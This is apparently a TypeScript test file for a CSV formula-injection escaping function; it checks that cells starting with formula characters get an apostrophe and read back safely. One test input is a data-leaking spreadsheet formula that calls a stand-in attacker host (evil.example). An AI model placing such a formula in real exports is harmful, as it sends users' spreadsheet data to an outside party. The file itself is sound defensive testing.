import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { escapeCsvCell, startsLikeFormula } from "./escape-cell";

const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];

/** One cell written by papaparse as the dashboard's writers do, and read back by papaparse. */
const roundTrip = (cell: string, delimiter = ","): string | undefined => {
  const csv = Papa.unparse([[escapeCsvCell(cell), "next"]], { delimiter, newline: "\r\n" });
  return Papa.parse<string[]>(csv, { delimiter, newline: "\r\n" }).data[0]?.[0];
};

describe("escapeCsvCell", () => {
  it.each(FORMULA_STARTS)("puts an apostrophe before a cell starting with %j", (start) => {
    expect(escapeCsvCell(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
  });

  it("tests the first character only, whatever line breaks follow", () => {
    expect(escapeCsvCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n')).toBe(
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n`,
    );
    expect(escapeCsvCell("@x\r\ny")).toBe("'@x\r\ny");
    expect(escapeCsvCell("Ana\n=1")).toBe("Ana\n=1");
  });

  it("leaves other text alone", () => {
    for (const text of ["", "Ana Souza", "'=1", " =1", "BR123456789", "1.5", "•••.•••.•••-09"]) expect(escapeCsvCell(text)).toBe(text);
  });

  it("keeps the apostrophe inside the quoted cell, and the text after it exactly", () => {
    const csv = Papa.unparse([[escapeCsvCell("=1+1\r\n=2")]], { newline: "\r\n" });
    expect(csv).toBe(`"'=1+1\r\n=2"`);
  });

  it("reads back as the text behind an apostrophe, never as a formula, for any text", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...FORMULA_STARTS),
        fc.string({ unit: fc.constantFrom("a", "=", '"', ",", ";", "\n", "\r", "\t", " ", "'") }),
        fc.constantFrom(",", ";"),
        (start, rest, delimiter) => {
          const cell = roundTrip(start + rest, delimiter);
          expect(cell).toBe(`'${start}${rest}`);
          expect(startsLikeFormula(cell ?? "")).toBe(false);
        },
      ),
    );
  });
});
